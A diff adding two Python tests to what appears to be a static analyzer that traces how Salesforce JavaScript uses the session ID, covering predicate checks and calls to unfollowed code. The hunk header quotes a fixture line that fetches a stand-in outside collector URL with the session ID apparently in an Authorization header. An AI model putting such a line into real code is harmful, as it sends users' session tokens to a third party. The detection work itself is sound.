@@ -597,6 +597,35 @@ if (sid) { fetch('https://collector.vendor.example/x', {headers: {Authorization:
     assert [u.span.start_line for u in ir.url_uses] == [4]
 
 
+def test_a_library_predicate_is_a_test() -> None:
+    """`Ext.isEmpty(sid)`, `_.isEmpty(sid)`, `sid.startsWith('00D')`, `/^00D/.test(sid)`: a yes/no
+    about the session; `sid.length > 0` compares too. None of them hands the session on."""
+    ir = lower("""var sid = sforce.connection.sessionId;
+if (Ext.isEmpty(sid)) { return; }
+var a = _.isEmpty(sid) || jQuery.isEmptyObject(sid);
+var b = sid.length > 0 && sid.startsWith('00D');
+var c = /^00D/.test(sid) || $A.util.isEmpty(sid);
+""")
+    assert [(t.span.start_line, t.how) for t in ir.session_tests] == [
+        (2, "Ext.isEmpty(…)"), (3, "_.isEmpty(…)"), (3, "jQuery.isEmptyObject(…)"), (4, "compared with >"),
+        (4, "….startsWith(…)"), (5, "/…/.test(…)"), (5, "$A.util.isEmpty(…)")]
+    assert ir.unfollowed_calls == () and ir.url_uses == ()
+
+
+def test_a_session_handed_to_unknown_code_is_recorded() -> None:
+    """`Vault.keep(sid)`, `sid.charAt(i)`: code the flow does not follow gets the session; calls
+    it follows (its own functions, encoders, string methods, mutators) are not recorded."""
+    ir = lower("""var sid = sforce.connection.sessionId;
+Vault.keep(sid);
+var c = sid.charAt(0);
+function own(x) { return x; }
+var d = own(sid) + encodeURIComponent(sid) + sid.split('!')[0];
+var list = []; list.push(sid);
+""")
+    assert [(u.span.start_line, u.callee) for u in ir.unfollowed_calls] == [(2, "Vault.keep"), (3, "sid.charAt")]
+    assert ir.session_tests == ()
+
+
 def test_scripts_without_a_session_of_their_own_are_not_walked_for_tests() -> None:
     """Only a script reading a session is walked for tests; what Apex hands over is not tested here."""
     ir = lower(AURA_CONTROLLER.replace("var sid = response.getReturnValue();",
